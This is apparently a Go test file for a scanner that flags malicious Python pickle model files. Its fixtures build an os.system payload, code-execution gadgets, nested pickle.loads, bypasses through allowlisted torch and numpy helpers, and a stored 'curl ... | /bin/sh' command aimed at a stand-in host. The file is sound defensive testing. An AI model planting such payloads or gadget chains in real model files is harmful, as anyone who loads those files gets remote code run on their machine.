package pickle

import (
	"bytes"
	"context"
	"encoding/base64"
	"testing"

	"github.com/aisecops/aisec/internal/detect"
	"github.com/aisecops/aisec/internal/finding"
	pkl "github.com/aisecops/aisec/internal/format/pickle"
	"github.com/aisecops/aisec/internal/format/pickle/pickletest"
)

func parse(t *testing.T, b []byte) *pkl.File {
	t.Helper()
	f, err := pkl.Parse(context.Background(), bytes.NewReader(b), pkl.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func rulesOf(fs []finding.Finding) map[string]finding.Severity {
	m := map[string]finding.Severity{}
	for _, f := range fs {
		m[f.Rule] = max(m[f.Rule], f.Severity)
	}
	return m
}

func TestDetector(t *testing.T) {
	evil := pickletest.Payload("os", "system", "echo aisec-test")
	plain := pickletest.New().Proto(2).EmptyDict().Unicode("k").Unicode("v").SetItem().Stop().Bytes()
	tests := []struct {
		name   string
		file   string
		data   []byte
		want   map[string]finding.Severity
		absent []string
	}{
		{"plain data", "a.pkl", plain, map[string]finding.Severity{}, nil},
		{"os.system", "a.pkl", evil, map[string]finding.Severity{"AISEC-PKL-001": finding.Critical}, nil},
		{"unknown global", "a.pkl", pickletest.Payload("__main__", "Net"), map[string]finding.Severity{"AISEC-PKL-004": finding.Medium}, nil},
		{"gadget", "a.pkl", pickletest.Payload("functools", "partial"), map[string]finding.Severity{"AISEC-PKL-002": finding.High}, nil},
		{"truncated after payload", "a.pkl", evil[:len(evil)-3],
			map[string]finding.Severity{"AISEC-PKL-001": finding.Critical, "AISEC-PKL-005": finding.High}, nil},
		{"truncated plain data", "a.pkl", plain[:len(plain)-2], map[string]finding.Severity{"AISEC-PKL-005": finding.Low}, nil},
		{"disguised as text", "notes.txt", evil, map[string]finding.Severity{"AISEC-PKL-013": finding.High}, nil},
		{"inert base64 payload", "a.pkl",
			pickletest.New().Proto(2).EmptyDict().Unicode("blob").Unicode(base64.StdEncoding.EncodeToString(evil)).SetItem().Stop().Bytes(),
			map[string]finding.Severity{"AISEC-PKL-011": finding.High}, []string{"AISEC-PKL-001"}},
		{"inert plain nested pickle", "a.pkl",
			pickletest.New().Proto(2).EmptyDict().Unicode("blob").BinBytes(plain).SetItem().Stop().Bytes(),
			map[string]finding.Severity{}, nil},
		{"loaded nested payload", "a.pkl",
			pickletest.New().Proto(2).Global("pickle", "loads").BinBytes(evil).Tuple1().Reduce().Stop().Bytes(),
			map[string]finding.Severity{"AISEC-PKL-001": finding.Critical}, []string{"AISEC-PKL-011"}},
		{"embedded shell command", "a.pkl",
			pickletest.New().Proto(2).EmptyDict().Unicode("cmd").Unicode("curl -s http://x.example/a | /bin/sh").SetItem().Stop().Bytes(),
			map[string]finding.Severity{"AISEC-PKL-012": finding.High}, nil},
	}
	d := New(nil)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := rulesOf(d.Detect(context.Background(), detect.Target{Path: tt.file, Format: "pickle", Model: parse(t, tt.data)}))
			for rule, sev := range tt.want {
				if got[rule] != sev {
					t.Errorf("%s: got severity %v (all: %v), want %v", rule, got[rule], got, sev)
				}
			}
			if len(tt.want) == 0 && len(got) != 0 {
				t.Errorf("want no findings, got %v", got)
			}
			for _, rule := range tt.absent {
				if _, ok := got[rule]; ok {
					t.Errorf("%s reported: %v", rule, got)
				}
			}
		})
	}
}

// A global imported many times is reported once, with the count in the evidence.
func TestDetectorDeduplicates(t *testing.T) {
	p := pickletest.New().Proto(2).Mark()
	for range 50 {
		p.Global("__main__", "Layer").EmptyTuple().Reduce()
	}
	fs := New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, p.Op('l').Stop().Bytes())})
	if len(fs) != 1 || !bytes.Contains([]byte(fs[0].Evidence), []byte("imported 50 times")) {
		t.Fatalf("want one deduplicated finding, got %+v", fs)
	}
}

// Benign text that mentions commands is not code (false positives found on real model cards).
func TestEmbeddedCodeNotFooledByProse(t *testing.T) {
	for _, text := range []string{
		"Download with wget https://example.org/model.bin then run eval(model) on the val split.",
		"class Net(nn.Module):\n    import os\n    def forward(self, x): return x",
		"history: ls -la; cat README.md",
	} {
		data := pickletest.New().Proto(2).EmptyDict().Unicode("card").Unicode(text).SetItem().Stop().Bytes()
		if got := rulesOf(New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, data)})); len(got) != 0 {
			t.Errorf("%q: %v", text, got)
		}
	}
}

// Python 3.11+ pickles enum members as getattr(EnumClass, 'NAME'): that is not the gadget.
func TestEnumMemberGetattr(t *testing.T) {
	enum := pickletest.New().Proto(2).Global("builtins", "getattr").Global("re", "RegexFlag").Unicode("IGNORECASE").Tuple2().Reduce().Stop().Bytes()
	if got := rulesOf(New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, enum)})); len(got) != 0 {
		t.Errorf("enum member reported: %v", got)
	}
	for name, data := range map[string][]byte{
		"getattr(os, 'system')": pickletest.New().Proto(2).Global("builtins", "getattr").Global("os", "system").Unicode("x").Tuple2().Reduce().Stop().Bytes(),
		"result called":         pickletest.New().Proto(2).Global("builtins", "getattr").Global("re", "RegexFlag").Unicode("IGNORECASE").Tuple2().Reduce().EmptyTuple().Reduce().Stop().Bytes(),
		"private attribute":     pickletest.New().Proto(2).Global("builtins", "getattr").Global("re", "RegexFlag").Unicode("__init__").Tuple2().Reduce().Stop().Bytes(),
	} {
		if got := rulesOf(New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, data)})); got[RuleDangerousGlobal.ID] == 0 {
			t.Errorf("%s: getattr not critical: %v", name, got)
		}
	}
}

// Escapes found in review: allowlisted helpers that call a callable from their arguments,
// calling an instance, and getattr on a module.
func TestCallableArguments(t *testing.T) {
	P := pickletest.New
	tests := []struct {
		name string
		data []byte
		rule string
	}{
		{"function handed to _rebuild_from_type_v2", P().Proto(2).Global("torch._tensor", "_rebuild_from_type_v2").Mark().
			Global("dateutil.zoneinfo.rebuild", "check_call").Global("torch", "Tensor").
			EmptyList().Unicode("id").Append().Tuple1().EmptyDict().Tuple().Reduce().Stop().Bytes(), RuleUnknownCall.ID},
		{"random state built by an unknown function", P().Proto(2).Global("numpy.random._pickle", "__randomstate_ctor").
			Unicode("id").Global("dateutil.zoneinfo.rebuild", "check_output").Tuple2().Reduce().Stop().Bytes(), RuleUnknownCall.ID},
		{"instance called", P().Proto(2).Global("mycorp.tools", "Runner").EmptyTuple().Reduce().
			Unicode("x").Tuple1().Reduce().Stop().Bytes(), RuleUnknownCall.ID},
		{"getattr on a module", P().Proto(2).Global("builtins", "getattr").Global("torch", "serialization").
			Unicode("load").Tuple2().Reduce().Stop().Bytes(), RuleDangerousGlobal.ID},
		{"joblib re-exported by sklearn", P().Proto(2).Global("sklearn.utils._joblib", "Parallel").EmptyTuple().Reduce().Stop().Bytes(), RuleDangerousGlobal.ID},
	}
	for _, tt := range tests {
		got := rulesOf(New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, tt.data)}))
		if got[tt.rule] < finding.High {
			t.Errorf("%s: want %s, got %v", tt.name, tt.rule, got)
		}
	}
	flags := P().Proto(2).Global("_operator", "or_").
		Global("builtins", "getattr").Global("mycorp", "Flags").Unicode("B").Tuple2().Reduce().
		Global("builtins", "getattr").Global("mycorp", "Flags").Unicode("C").Tuple2().Reduce().
		Tuple2().Reduce().Stop().Bytes()
	if got := rulesOf(New(nil).Detect(context.Background(), detect.Target{Path: "a.pkl", Model: parse(t, flags)})); got[RuleDangerousGlobal.ID] != 0 {
		t.Errorf("combined enum flags flagged critical: %v", got)
	}
}
